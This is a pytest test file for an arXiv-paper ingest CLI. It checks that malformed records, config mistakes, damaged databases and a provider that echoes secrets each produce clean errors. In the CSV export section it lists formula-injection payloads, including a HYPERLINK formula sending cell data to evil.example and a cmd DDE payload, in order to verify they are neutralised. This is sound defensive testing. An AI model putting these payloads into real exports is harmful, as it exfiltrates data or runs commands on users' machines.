"""The attack corpus (issue 15): a hostile paper author, a broken provider, a careless user.

Each attack is one line of a parametrised table; every case goes through the real CLI (`ingest ...`
in-process via cli.main, real SQLite files in tmp_path, local HTTP servers on 127.0.0.1) and
asserts the one-line message, the exit code and what was (not) stored. Add the next attack as a line.
Signals, killed processes and the lock across commands: test_signals.py and test_lock.py.
"""

from __future__ import annotations

import copy
import csv
import io
import json
import sqlite3
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from click.testing import Result

from conftest import run_ingest, week_file, week_records

WEEK = "2026-W16"
GOOD = week_records(WEEK)[0]  # 2604.08549, listed 2026-04-13
BAD_ID = "2604.99001"


def _record(**changes: Any) -> dict[str, Any]:
    record = copy.deepcopy(GOOD)
    record.update({"id": BAD_ID, "title": "A hostile record about recommendation", **changes})
    return record


def _line(**changes: Any) -> bytes:
    return json.dumps(_record(**changes)).encode() + b"\n"


def _snapshot(tmp_path: Path, *bad_lines: bytes) -> Path:
    """A snapshot: one good W16 record on line 1, then the attack lines."""
    path = tmp_path / "hostile.jsonl"
    path.write_bytes(json.dumps(GOOD).encode() + b"\n" + b"".join(bad_lines))
    return path


def _stored(db: Path, arxiv_id: str) -> dict[str, Any] | None:
    with sqlite3.connect(db) as conn:
        conn.row_factory = sqlite3.Row
        row = conn.execute("SELECT * FROM paper WHERE arxiv_id = ?", (arxiv_id,)).fetchone()
    return dict(row) if row else None


def _one_line(res: Result) -> str:
    lines = res.stderr.strip().splitlines()
    assert len(lines) == 1, res.stderr
    assert "internal error" not in res.stderr and "Traceback" not in res.output
    return lines[0]


# ----------------------------------------------------------------------------- snapshot records
# (attack, the bad line, what the crawl says about line 2)
REJECTED = [
    (
        "lone surrogate",
        b'{"id": "2604.99001", "title": "T \\ud800 x", "listing_date": "2026-04-13"}\n',
        "line 2: 'title': text is not valid Unicode (lone surrogate \\ud800)",
    ),
    (
        "surrogate in a list",
        _line(authors=["A", "B \ud800"]).replace(b"\\ud800", b"\\udfff"),
        "line 2: 'authors': text is not valid Unicode (lone surrogate \\udfff)",
    ),
    (
        "invalid UTF-8",
        _line(title="caf\u00e9 recommender").replace(b"\\u00e9", b"\xe9"),
        "line 2: invalid UTF-8 (byte 0xe9 at column",
    ),
    ("line over 1 MiB", _line(abstract="x" * (2 << 20)), "bytes is over the 1,048,576-byte limit"),
    ("title not a string", _line(title=12345), "line 2: 'title' must be a string"),
    ("JSON nested too deeply", b"[" * 100_000 + b"]" * 100_000 + b"\n", "line 2: "),
    ("not an object", b"[1, 2]\n", "line 2: not a JSON object"),
    (
        "published in 2099",
        _line(published="2099-01-05T10:00:00Z", listing_date=None),
        "line 2: 2604.99001: published 2099-01-05 is in the future",
    ),
    (
        "listed in 2099",
        _line(listing_date="2099-01-05"),
        "line 2: 2604.99001: listing_date 2099-01-05 is in the future",
    ),
    (
        "published in 1900",
        _line(published="1900-01-01T00:00:00Z", listing_date=None),
        "line 2: 2604.99001: published 1900-01-01 is before arXiv began",
    ),
    (
        "id of 2099",
        _line(id="9901.00001"),
        "line 2: 9901.00001: id of 2099-01, a month that has not come yet",
    ),
    ("id of month 13", _line(id="2613.00001"), "line 2: 2613.00001: no month 13"),
    (
        "four-digit id in 2026",
        _line(id="2604.1234"),
        "line 2: 2604.1234: ids of 2026-04 have 5-digit numbers",
    ),
    (
        "old-style id after 2007",
        _line(id="cs/2601001"),
        "line 2: cs/2601001: old-style ids run from 1991-08 to 2007-03, not 2026-01",
    ),
    ("bad version", _line(version=-3), "line 2: 2604.99001: 'version' must be a positive integer"),
]


@pytest.mark.parametrize(("attack", "line", "message"), REJECTED, ids=[r[0] for r in REJECTED])
def test_a_bad_record_is_named_and_the_rest_loads(tmp_path, attack, line, message):
    db = tmp_path / "ingest.sqlite3"
    res = run_ingest(str(db), "crawl", "--week", WEEK, "--source", str(_snapshot(tmp_path, line)))
    assert res.exit_code == 1, res.output
    assert message in _one_line(res)
    assert _stored(db, GOOD["id"]) is not None
    assert _stored(db, BAD_ID) is None


# (attack, the record's changes, the note, the stored field and its stored length)
CUT = [
    (
        "abstract of 60,000 characters",
        {"abstract": "w" * 60_000},
        "abstract cut to 20,000 of 60,000 characters",
        "abstract",
        20_000,
    ),
    (
        "title of 5,000 characters",
        {"title": "r" * 5_000},
        "title cut to 1,000 of 5,000 characters",
        "title",
        1_000,
    ),
    (
        "comment of 10,000 characters",
        {"comment": "c" * 10_000},
        "comment cut to 2,000 of 10,000 characters",
        "comment",
        2_000,
    ),
    (
        "5,000 authors",
        {"authors": [f"Author {i}" for i in range(5_000)]},
        "5,000 authors cut to 500",
        "authors",
        500,
    ),
]


@pytest.mark.parametrize(("attack", "changes", "note", "field", "length"), CUT, ids=[c[0] for c in CUT])
def test_an_oversized_field_is_cut_with_a_note(tmp_path, attack, changes, note, field, length):
    db = tmp_path / "ingest.sqlite3"
    res = run_ingest(str(db), "crawl", "--week", WEEK, "--source", str(_snapshot(tmp_path, _line(**changes))))
    assert res.exit_code == 0, res.output
    assert f"note: line 2: {BAD_ID}: {note}" in res.stdout
    stored = _stored(db, BAD_ID)
    assert stored is not None
    value = json.loads(stored[field]) if field == "authors" else stored[field]
    assert len(value) == length
    with sqlite3.connect(db) as conn:
        counts = json.loads(conn.execute("SELECT counts FROM run ORDER BY id DESC LIMIT 1").fetchone()[0])
    assert counts["truncated"] == 1


def test_rejected_lines_say_and_n_more(tmp_path):
    lines = [_line(id=f"2604.9900{i}", title=i) for i in range(6)]
    res = run_ingest(
        str(tmp_path / "x.sqlite3"), "crawl", "--week", WEEK, "--source", str(_snapshot(tmp_path, *lines))
    )
    assert res.exit_code == 1
    assert _one_line(res).endswith("line 4: 'title' must be a string; and 3 more")


# ----------------------------------------------------------------------------- the careless user
def _write(tmp_path: Path, name: str, text: str) -> Path:
    path = tmp_path / name
    path.write_text(text)
    return path


# (mistake, environment, ingest.toml text or None, args, exit code, message fragments)
MISTAKES = [
    (
        "typo'd key",
        {},
        "llm_timout = 5\n",
        ["config"],
        2,
        ["ingest.toml: unknown key 'llm_timout'; did you mean 'llm_timeout'?"],
    ),
    (
        "[ingest] table",
        {},
        '[ingest]\nmodel = "gpt-4o"\n',
        ["config"],
        2,
        ["ingest.toml: an [ingest] table is not read"],
    ),
    (
        "wrong type in toml",
        {},
        'llm_timeout = "soon"\n',
        ["config"],
        2,
        ["ingest.toml: key 'llm_timeout': Input should be a valid number"],
    ),
    (
        "TOML syntax",
        {},
        "model = \n",
        ["config"],
        2,
        ["ingest.toml: invalid TOML: Invalid value (at line 1, column 9)"],
    ),
    (
        "timeout 0",
        {},
        "llm_timeout = 0\n",
        ["config"],
        2,
        ["key 'llm_timeout': Input should be greater than 0"],
    ),
    (
        "prompt version with a path",
        {},
        '[prompt_versions]\nextract_paper = "../v1"\n',
        ["config"],
        2,
        ["key 'prompt_versions': prompt version '../v1' is not of the form v1, v2"],
    ),
    (
        "typo'd variable",
        {"INGEST_LLM_TIMOUT": "5"},
        None,
        ["config"],
        2,
        ["environment variable INGEST_LLM_TIMOUT is not a setting; did you mean INGEST_LLM_TIMEOUT?"],
    ),
    (
        "unknown backend",
        {"INGEST_BACKEND": "foo"},
        None,
        ["config"],
        2,
        ["environment variable INGEST_BACKEND: Input should be 'auto', 'offline' or 'openai' (got 'foo')"],
    ),
    (
        "negative retries",
        {"INGEST_LLM_MAX_RETRIES": "-1"},
        None,
        ["config"],
        2,
        ["INGEST_LLM_MAX_RETRIES: Input should be greater than or equal to 0"],
    ),
    ("zero concurrency", {"INGEST_LLM_CONCURRENCY": "0"}, None, ["config"], 2, ["INGEST_LLM_CONCURRENCY"]),
    ("negative max_tokens", {"INGEST_LLM_MAX_TOKENS": "-5"}, None, ["config"], 2, ["INGEST_LLM_MAX_TOKENS"]),
    ("negative deep_dive_cap", {"INGEST_DEEP_DIVE_CAP": "-1"}, None, ["config"], 2, ["INGEST_DEEP_DIVE_CAP"]),
    ("negative catchup_weeks", {"INGEST_CATCHUP_WEEKS": "-2"}, None, ["config"], 2, ["INGEST_CATCHUP_WEEKS"]),
    (
        "nan threshold",
        {"INGEST_RELEVANCE_THRESHOLD": "nan"},
        None,
        ["config"],
        2,
        ["INGEST_RELEVANCE_THRESHOLD: Input should be a finite number"],
    ),
    (
        "stale lock 0",
        {"INGEST_LOCK_STALE_SECONDS": "0"},
        None,
        ["config"],
        2,
        ["INGEST_LOCK_STALE_SECONDS: Input should be greater than 0"],
    ),
    (
        "three problems at once",
        {"INGEST_LLM_CONCURRENCY": "0", "INGEST_TREND_WEEKS": "0"},
        "llm_reasks = -1\nlang = 'fr'\n",
        ["config"],
        2,
        ["; and 1 more"],
    ),
]


@pytest.mark.parametrize(
    ("mistake", "env", "toml", "args", "code", "fragments"), MISTAKES, ids=[m[0] for m in MISTAKES]
)
def test_a_settings_mistake_is_one_line_naming_file_and_key(
    tmp_path, monkeypatch, mistake, env, toml, args, code, fragments
):
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    if toml is not None:
        monkeypatch.setenv("INGEST_CONFIG", str(_write(tmp_path, "ingest.toml", toml)))
    res = run_ingest(str(tmp_path / "x.sqlite3"), *args)
    assert res.exit_code == code, res.output
    line = _one_line(res)
    for fragment in fragments:
        assert fragment in line


@pytest.mark.parametrize(
    ("option", "message"),
    [
        ("missing.toml", "config file {tmp}/missing.toml not found (named by --config or INGEST_CONFIG)"),
        (".", "config file {tmp} is a directory; name a TOML file"),
    ],
)
def test_config_option_naming_a_missing_file_or_a_directory(tmp_path, option, message):
    path = tmp_path / option if option != "." else tmp_path
    res = run_ingest(None, "--config", str(path), "config")
    assert res.exit_code == 2
    assert message.format(tmp=tmp_path) in _one_line(res)


def test_db_option_env_and_setting_take_the_same_forms(tmp_path, monkeypatch):
    plain = tmp_path / "a.sqlite3"
    shown = [json.loads(run_ingest(str(plain), "config", "--json").stdout)["db_url"]]
    monkeypatch.setenv("INGEST_DB_URL", str(plain))
    shown.append(json.loads(run_ingest(None, "config", "--json").stdout)["db_url"])
    monkeypatch.delenv("INGEST_DB_URL")
    monkeypatch.setenv("INGEST_CONFIG", str(_write(tmp_path, "ingest.toml", f'db_url = "{plain}"\n')))
    shown.append(json.loads(run_ingest(None, "config", "--json").stdout)["db_url"])
    assert shown == [f"sqlite:///{plain}"] * 3
    for args, env in ((["--db", str(tmp_path)], {}), ([], {"INGEST_DB_URL": f"sqlite:///{tmp_path}"})):
        for name, value in env.items():
            monkeypatch.setenv(name, value)
        res = run_ingest(None, *args, "papers", "list", "--week", WEEK)
        assert res.exit_code == 2
        assert (
            f"{tmp_path} is a directory; name a database file such as {tmp_path}/ingest.sqlite3"
            in _one_line(res)
        )


def test_postgres_url_without_its_driver_says_what_to_install(tmp_path):
    try:
        import psycopg  # noqa: F401
    except ImportError:
        pass
    else:
        pytest.skip("psycopg is installed here")
    res = run_ingest("postgresql://ingest:hunter2secret@127.0.0.1:9/db", "papers", "list", "--week", WEEK)
    assert res.exit_code == 2
    line = _one_line(res)
    assert "needs the Python driver 'psycopg', which is not installed: pip install 'ingest[postgres]'" in line
    assert "postgresql://ingest:***@127.0.0.1:9/db" in line and "hunter2secret" not in res.output


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (
            ["run", "--source", str(week_file(WEEK))],
            f"{week_file(WEEK)} holds no papers of {{default}} (the default: the last complete week); "
            f"it holds 2026-W16 (116 records). Type: ingest run --week 2026-W16 --source {week_file(WEEK)}",
        ),
        (
            ["crawl", "--week", "2026-W20", "--source", str(week_file(WEEK))],
            f"{week_file(WEEK)} holds no papers of 2026-W20; it holds 2026-W16 (116 records). "
            f"Type: ingest crawl --week 2026-W16 --source {week_file(WEEK)}",
        ),
        (
            ["run", "--week", WEEK, "--source", "{tmp}/empty.jsonl"],
            "source file {tmp}/empty.jsonl holds no records",
        ),
        (["crawl", "--week", WEEK, "--source", "{tmp}"], "source {tmp} is a directory; name a snapshot file"),
        (["extract", "--week", "2026-W20"], "no papers stored for 2026-W20: crawl the week first"),
        (
            ["papers", "show", "2604.08549v7"],
            "2604.08549 has no stored version 7: stored v1 (ingest papers show 2604.08549v1)",
        ),
        (
            ["run", "--week", WEEK, "--source", str(week_file(WEEK)), "--backend", "openai"],
            "backend openai needs an API key: set OPENAI_API_KEY",
        ),
        (["extract", "--week", WEEK, "--backend", "openai"], "backend openai needs an API key"),
        (["db", "upgrade", "nope"], "unknown schema revision 'nope'; known: head, 0001"),
        (["db", "backup", "{tmp}"], "backup target {tmp} is a directory; name a file"),
    ],
    ids=[
        "run default week",
        "crawl other week",
        "empty file",
        "directory source",
        "extract empty week",
        "version not stored",
        "run openai no key",
        "extract openai no key",
        "unknown revision",
        "backup to dir",
    ],
)
def test_a_usage_mistake_gets_a_plain_message_and_stores_nothing(tmp_path, args, message):
    from ingest.weeks import last_complete_week

    db = tmp_path / "ingest.sqlite3"
    assert run_ingest(str(db), "crawl", "--week", WEEK, "--source", str(week_file(WEEK))).exit_code == 0
    (tmp_path / "empty.jsonl").write_text("\n  \n")
    with sqlite3.connect(db) as conn:
        before = [
            conn.execute(f"SELECT count(*) FROM {t}").fetchone()[0] for t in ("paper", "run", "llm_call")
        ]
    res = run_ingest(str(db), *[a.format(tmp=tmp_path) for a in args])
    assert res.exit_code == 2, res.output
    assert message.format(tmp=tmp_path, default=last_complete_week()) in _one_line(res)
    with sqlite3.connect(db) as conn:
        after = [
            conn.execute(f"SELECT count(*) FROM {t}").fetchone()[0] for t in ("paper", "run", "llm_call")
        ]
    assert after == before


# ----------------------------------------------------------------------------- the environment
def _newer_schema(db: Path) -> str:
    with sqlite3.connect(db) as conn:
        conn.execute("UPDATE alembic_version SET version_num = 'ffff99'")
    return "is at schema revision 'ffff99', which this version of ingest does not know"


def _garbage(db: Path) -> str:
    db.write_bytes(b"this is not a database" * 1000)
    for suffix in ("-wal", "-shm"):
        Path(f"{db}{suffix}").unlink(missing_ok=True)
    return "is not a SQLite database (or is damaged)"


@pytest.mark.parametrize("damage", [_newer_schema, _garbage], ids=["newer schema", "not a database"])
@pytest.mark.parametrize(
    "args", [["papers", "list", "--week", WEEK], ["status"], ["db", "upgrade"], ["crawl", "--week", WEEK]]
)
def test_a_database_that_cannot_be_used_is_never_an_internal_error(tmp_path, damage, args):
    db = tmp_path / "ingest.sqlite3"
    assert run_ingest(str(db), "db", "upgrade").exit_code == 0
    from ingest.db import engine

    engine.forget_engines()
    message = damage(db)
    source = ["--source", str(week_file(WEEK))] if args[0] == "crawl" else []
    res = run_ingest(str(db), *args, *source)
    assert res.exit_code == 2, res.output
    assert message in _one_line(res)


def test_db_current_names_a_newer_schema_and_a_damaged_file(tmp_path):
    db = tmp_path / "ingest.sqlite3"
    assert run_ingest(str(db), "db", "upgrade").exit_code == 0
    _newer_schema(db)
    res = run_ingest(str(db), "db", "current")
    assert res.exit_code == 0
    assert res.stdout.startswith("current: ffff99 (unknown to this version of ingest: made by a newer one?)")
    _garbage(db)
    res = run_ingest(str(db), "db", "current")
    assert res.exit_code == 2 and "is not a SQLite database (or is damaged)" in _one_line(res)


def test_a_read_only_database_says_so(tmp_path):
    db = tmp_path / "ingest.sqlite3"
    assert run_ingest(str(db), "crawl", "--week", WEEK, "--source", str(week_file(WEEK))).exit_code == 0
    read_only = f"sqlite:///file:{db}?mode=ro&uri=true"
    listed = run_ingest(read_only, "papers", "list", "--week", WEEK)
    assert listed.exit_code == 0 and "2604.08549" in listed.stdout  # reading works
    res = run_ingest(read_only, "crawl", "--week", WEEK, "--source", str(week_file(WEEK)))
    assert res.exit_code == 2, res.output
    assert "is read-only: make the file and its folder writable" in _one_line(res)


# ----------------------------------------------------------------------------- exports
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
]


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("title", FORMULAS, ids=["=", "+", "-", "@"])
def test_csv_export_never_writes_a_formula(tmp_path, title):
    db = tmp_path / "ingest.sqlite3"
    hostile = _record(
        title=f"{title} zebrafishrec recommender", abstract=f"{title} zebrafishrec in the abstract"
    )
    path = _snapshot(tmp_path, json.dumps(hostile).encode() + b"\n")
    assert run_ingest(str(db), "crawl", "--week", WEEK, "--source", str(path)).exit_code == 0
    res = run_ingest(str(db), "search", "zebrafishrec", "--format", "csv")
    assert res.exit_code == 0, res.output
    rows = list(csv.DictReader(io.StringIO(res.stdout)))
    assert [r["arxiv_id"] for r in rows] == [BAD_ID]
    assert rows[0]["title"] == "'" + hostile["title"]
    assert rows[0]["snippet"].startswith(f"'{title}")
    cells = [v for row in rows for v in row.values() if not _number(v)]  # a number is never a formula
    assert cells and all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in cells)
    assert res.stdout.splitlines()[1].startswith('"2604.99001"')  # every cell quoted


def test_csv_cells_starting_with_tab_or_carriage_return_are_neutralised_too():
    """The crawl strips leading whitespace from titles and abstracts, so these reach csv_cell only
    from other text; the rule covers them all (OWASP)."""
    from ingest.cli.search import csv_cell

    assert [csv_cell(v) for v in ("\tx", "\rx", "=1", "ok", -1.5)] == ["'\tx", "'\rx", "'=1", "ok", -1.5]


# ----------------------------------------------------------------------------- the broken provider
KEY = "sk-canary-0123456789abcdef0123"
TOKEN = "tok-userinfo-9f8e7d6c5b4a"


class _Provider:
    """A provider that answers every request with HTTP 200 and the body the test gives."""

    def __init__(self, body: bytes, content_type: str) -> None:
        self.body, self.content_type, self.count = body, content_type, 0

    def __enter__(self) -> _Provider:
        provider = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *_args: Any) -> None:
                pass

            def do_POST(self) -> None:  # noqa: N802 - stdlib name
                self.rfile.read(int(self.headers.get("content-length") or 0))
                provider.count += 1
                self.send_response(200)
                self.send_header("content-type", provider.content_type)
                self.send_header("content-length", str(len(provider.body)))
                self.end_headers()
                self.wfile.write(provider.body)

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, args=(0.05,), daemon=True).start()
        return self

    def __exit__(self, *_exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()

    def url(self, userinfo: str = "") -> str:
        return f"http://{userinfo}127.0.0.1:{self.server.server_address[1]}/v1"


PAGES = [
    (
        "html page",
        f"<html><body>Incorrect API key provided: Bearer {KEY}. Proxy auth {TOKEN}</body></html>",
        "text/html",
    ),
    (
        "json error body",
        json.dumps({"error": {"message": f"Incorrect API key provided: {KEY} ({TOKEN})"}}),
        "application/json",
    ),
    (
        "choices quoting the key",
        json.dumps(
            {"choices": [{"message": {"content": f"key {KEY} token {TOKEN}"}, "finish_reason": "stop"}]}
        ),
        "application/json",
    ),
]


@pytest.mark.parametrize(("page", "body", "content_type"), PAGES, ids=[p[0] for p in PAGES])
def test_a_provider_quoting_the_key_stores_and_prints_no_secret(
    tmp_path, monkeypatch, page, body, content_type
):
    db = tmp_path / "ingest.sqlite3"
    source = _snapshot(tmp_path)
    assert run_ingest(str(db), "crawl", "--week", WEEK, "--source", str(source)).exit_code == 0
    with _Provider(body.encode(), content_type) as provider:
        monkeypatch.setenv("OPENAI_API_KEY", KEY)
        monkeypatch.setenv("OPENAI_BASE_URL", provider.url(f"{TOKEN}@"))
        monkeypatch.setenv("INGEST_LLM_MAX_RETRIES", "0")
        monkeypatch.setenv("INGEST_LLM_REASKS", "0")
        res = run_ingest(str(db), "-vv", "extract", "--week", WEEK, "--backend", "openai")
        shown = run_ingest(str(db), "config")
    assert provider.count >= 1 and res.exit_code == 1, res.output
    assert "error: 1 extraction(s) failed: 2604.08549: LLMOutputError" in res.stderr
    assert f"openai_base_url = http://***@127.0.0.1:{provider.server.server_address[1]}/v1" in shown.stdout
    with sqlite3.connect(db) as conn:
        stored = json.dumps(conn.execute("SELECT * FROM llm_call").fetchall())
        stored += json.dumps(conn.execute("SELECT * FROM extraction").fetchall())
        stored += json.dumps(conn.execute("SELECT * FROM run").fetchall())
    assert "***" in stored
    for secret in (KEY, TOKEN):
        assert secret not in stored
        assert secret not in res.output + shown.output


def test_an_unreachable_provider_error_masks_the_base_url_userinfo(tmp_path, monkeypatch):
    db = tmp_path / "ingest.sqlite3"
    assert run_ingest(str(db), "crawl", "--week", WEEK, "--source", str(_snapshot(tmp_path))).exit_code == 0
    monkeypatch.setenv("OPENAI_BASE_URL", f"http://user:{TOKEN}@127.0.0.1:9/v1")
    monkeypatch.setenv("INGEST_LLM_MAX_RETRIES", "0")
    res = run_ingest(str(db), "-vv", "extract", "--week", WEEK)
    assert res.exit_code == 1
    assert "connection error at http://user:***@127.0.0.1:9/v1" in res.stderr
    assert TOKEN not in res.output


# ----------------------------------------------------------------------------- what reaches the model
def test_the_text_sent_to_the_model_is_bounded(tmp_path, monkeypatch):
    from fakeopenai import FakeOpenAI

    db = tmp_path / "ingest.sqlite3"
    huge = _record(id="2604.99002", abstract="A recommender system. " * 40_000)  # 880,000 characters
    path = _snapshot(tmp_path, json.dumps(huge).encode() + b"\n")
    assert run_ingest(str(db), "crawl", "--week", WEEK, "--source", str(path)).exit_code == 0
    with sqlite3.connect(db) as conn:  # an older database may hold more than the crawl keeps now
        conn.execute(
            "UPDATE paper SET abstract = ?, fulltext = ? WHERE arxiv_id = '2604.99002'",
            ("A recommender system. " * 40_000, "More text. " * 50_000),
        )
    with FakeOpenAI() as fake:
        monkeypatch.setenv("OPENAI_BASE_URL", fake.base_url)
        monkeypatch.setenv("INGEST_LLM_MAX_SOURCE_CHARS", "12000")
        res = run_ingest(str(db), "extract", "--week", WEEK, "--backend", "openai")
        sizes = {len(r.user) for r in fake.requests}
    assert res.exit_code in (0, 1), res.output
    assert len(sizes) == 2 and max(sizes) < 12_000 + 6_000  # the paper text plus the prompt's own words


def test_crawl_rejects_a_huge_line_without_holding_it(tmp_path):
    """A 64 MiB line is skipped while reading in pieces of at most 1 MiB (bench/hostile_input.py
    measures the memory of a 200 MB one)."""
    path = tmp_path / "huge.jsonl"
    with path.open("wb") as out:
        out.write(json.dumps(GOOD).encode() + b"\n")
        out.write(b'{"id": "2604.99003", "abstract": "')
        chunk = b"x" * (1 << 20)
        for _ in range(64):
            out.write(chunk)
        out.write(b'"}\n')
    db = tmp_path / "ingest.sqlite3"
    res = run_ingest(str(db), "crawl", "--week", WEEK, "--source", str(path))
    assert res.exit_code == 1
    assert "line 2: record of 67,108,90" in _one_line(res) and "over the 1,048,576-byte limit" in res.stderr
    assert _stored(db, GOOD["id"]) is not None


@pytest.fixture
def html_server() -> Iterator[tuple[list[str], str]]:
    hits: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *_args: Any) -> None:
            pass

        def do_GET(self) -> None:  # noqa: N802 - stdlib name
            hits.append(self.path)
            data = b"<html><body><div class='ltx_abstract'><p>Old paper.</p></div></body></html>"
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.send_header("content-length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
    yield hits, f"http://127.0.0.1:{server.server_address[1]}/html/"
    server.shutdown()
    server.server_close()


def test_old_style_ids_enrich_and_rerun(tmp_path, html_server, monkeypatch):
    hits, base = html_server
    old = _record(
        id="cs/0701001",
        title="Collaborative filtering for recommendation",
        listing_date="2007-01-02",
        published="2007-01-01T10:00:00Z",
    )
    path = _snapshot(tmp_path, json.dumps(old).encode() + b"\n")
    db = tmp_path / "ingest.sqlite3"
    assert (
        run_ingest(
            str(db), "crawl", "--since", "2007-01-01", "--until", "2007-01-05", "--source", str(path)
        ).exit_code
        == 0
    )
    for name, value in (
        ("INGEST_ENRICH_HTML", "true"),
        ("INGEST_HTML_BASE_URL", base),
        ("INGEST_ARXIV_DELAY_SECONDS", "0"),
        ("INGEST_CACHE_DIR", str(tmp_path / "cache")),
    ):
        monkeypatch.setenv(name, value)
    from ingest.config import Settings
    from ingest.crawl import enrich_papers

    settings = Settings.load(db_url=str(db))
    first = enrich_papers(settings, ["cs/0701001"])
    again = enrich_papers(settings, ["cs/0701001"])
    assert (first.failed, first.updated, first.fetched) == ({}, ["cs/0701001"], 1)
    assert (again.failed, again.fetched, again.cached) == ({}, 0, 1)
    assert hits == ["/html/cs/0701001v1"]
    assert (tmp_path / "cache" / "html" / "cs_0701001v1.html").is_file()
